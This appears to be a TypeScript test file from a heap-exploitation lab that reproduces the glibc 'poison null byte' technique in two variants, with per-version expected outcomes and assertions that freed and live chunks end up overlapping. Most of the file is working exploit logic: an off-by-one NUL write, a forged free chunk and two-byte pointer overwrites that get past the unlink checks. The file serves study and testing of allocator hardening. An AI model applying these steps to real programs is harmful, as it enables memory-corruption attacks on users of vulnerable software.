/**
 * poison_null_byte: a single NUL byte written past the end of chunk a clears the low byte of
 * the next chunk's size field.
 *
 * The glibc 2.27 program shrinks a free chunk b this way: its later splits update a
 * prev_size inside b instead of c's, so freeing c consolidates backwards over the chunk
 * carved out of b in between. glibc 2.29 checks the size of the chunk after an unsorted chunk
 * and catches the shrunken b.
 *
 * The 2.29+ program instead clears PREV_INUSE of a victim chunk and builds a fake free chunk
 * before it, whose fd/bk are chunks left with stale pointers from a large bin (two of them
 * fixed up with two-byte partial overwrites), so every unlink check passes.
 */

import assert from "node:assert/strict";
import { GLIBC_VERSIONS, type Lab, on, technique } from "./support.ts";

technique({
  name: "poison_null_byte (2.27 program)",
  claim: "a chunk carved from the shrunken b is overlapped by a later allocation",
  arches: ["x86_64"],
  outcomes: {
    "2.23": "works",
    "2.27": "works",
    ...on(["2.31", "2.35", "2.36", "2.39", "2.41"], {
      aborts: "malloc(): invalid next size (unsorted)",
      in: "malloc",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, proc = lab.proc;
    const a = h.malloc(0x500);
    const realA = h.usableSize(a);
    const b = h.malloc(0xa00);
    const c = h.malloc(0x500);
    h.malloc(0x100); // barrier against top
    // For glibc's size vs. prev_size check: the footer b will have once shrunk to 0xa00.
    lab.write(b + 0x9f0, 0xa00);
    h.free(b);
    lab.vulnerability();
    proc.memory.write8(a + realA, 0); // the off-by-one NUL
    assert.equal(lab.sizeField(b), 0xa00);
    const b1 = h.malloc(0x500);
    const b2 = h.malloc(0x480);
    proc.memory.fill(b2, 0x480, 0x42);
    h.free(b1);
    h.free(c); // c's stale prev_size still names b: b1..c become one free chunk
    const d = h.malloc(0xc00);
    assert.equal(d, b1);
    proc.memory.fill(d, 0xc00, 0x44);
    assert.equal(proc.memory.read8(b2), 0x44, "d overlaps b2");
  },
});

technique({
  name: "poison_null_byte (2.29+ program)",
  claim: "a free chunk consolidated with a fake chunk overlaps a live one",
  arches: ["x86_64"],
  outcomes: {
    ...on(GLIBC_VERSIONS, "works"),
    // 2.43 makes the tcache lazily, at the first exact fit taken from the unsorted bin (here a
    // 0x500 chunk: the tcache is made for any size); its 0x310 chunk comes from the chunks the
    // technique arranged. 2.44 no longer stashes exact fits, so nothing is made there.
    "2.43": {
      fails: "the tcache is made from the arranged chunks",
      assertion: "malloc(0x4f0) returns victim",
    },
  },
  run(lab: Lab) {
    const h = lab.heap, proc = lab.proc, mem = proc.memory;
    // Pad the heap so that prev's chunk starts at an address ending in 0x0000: its user
    // pointer (the fake chunk) then ends in 0x0010, and two-byte overwrites can name it.
    const tmp = h.malloc(1);
    h.malloc(0x10000 - (tmp & 0xffff) - 0x20);
    const prev = h.malloc(0x500);
    const victim = h.malloc(0x4f0);
    h.malloc(0x10);
    assert.equal(prev & 0xffff, 0x10, "prev's chunk starts at a 64 KiB boundary");
    const a = h.malloc(0x4f0);
    h.malloc(0x10);
    const b = h.malloc(0x510);
    h.malloc(0x10);
    h.free(a);
    h.free(b);
    h.free(prev);
    h.malloc(0x1000); // sorts a, b and prev into one large bin
    // prev's fd_nextsize / bk_nextsize now name a and b: they become the fake chunk's fd/bk.
    assert.equal(h.malloc(0x500), prev, "malloc(0x500) returns prev from the large bin");
    lab.setWord(prev, 1, 0x501); // fake chunk inside prev, 0x10 smaller
    lab.write(prev + 0x500, 0x500); // its footer
    const b2 = h.malloc(0x510); // b keeps a stale fd to a: point it at the fake chunk
    assert.equal(b2, b, "malloc(0x510) returns b");
    mem.write8(b2, 0x10);
    mem.write8(b2 + 1, 0x00);
    const a2 = h.malloc(0x4f0);
    h.free(a2);
    h.free(victim); // a->bk now names victim
    const a3 = h.malloc(0x4f0);
    assert.equal(a3, a, "malloc(0x4f0) returns a");
    mem.write8(a3 + 8, 0x10); // and a->bk names the fake chunk
    mem.write8(a3 + 9, 0x00);
    const victim2 = h.malloc(0x4f0);
    assert.equal(victim2, victim, "malloc(0x4f0) returns victim");
    lab.vulnerability();
    mem.write8(victim2 - 8, 0x00); // the off-by-one NUL: clears PREV_INUSE
    h.free(victim); // consolidates backwards with the fake chunk
    const merged = h.malloc(0x100);
    assert.equal(merged, prev + 0x10, "the merged chunk starts at the fake chunk");
    mem.fill(merged, 0x80, 0x41);
    mem.fill(prev, 0x80, 0x43);
    assert.equal(mem.read8(merged), 0x43, "prev and merged overlap");
  },
});
